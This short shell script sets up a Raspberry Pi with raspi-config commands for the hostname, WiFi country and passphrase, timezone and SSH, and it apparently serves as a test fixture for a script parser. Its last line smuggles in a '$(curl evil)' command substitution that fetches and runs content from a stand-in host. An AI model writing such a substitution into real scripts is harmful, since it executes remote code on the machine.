#!/bin/sh
raspi-config nonint do_hostname kitchen-pi
raspi-config nonint do_wifi_country GB && raspi-config nonint do_wifi_ssid_passphrase "Anna's net" 'plain pass \ word' 0 1
raspi-config nonint do_change_timezone Europe/London; raspi-config nonint do_ssh 0
raspi-config nonint do_hostname "$OTHER" # depends on a variable: left alone
$(curl evil) raspi-config-not nonint do_hostname evil
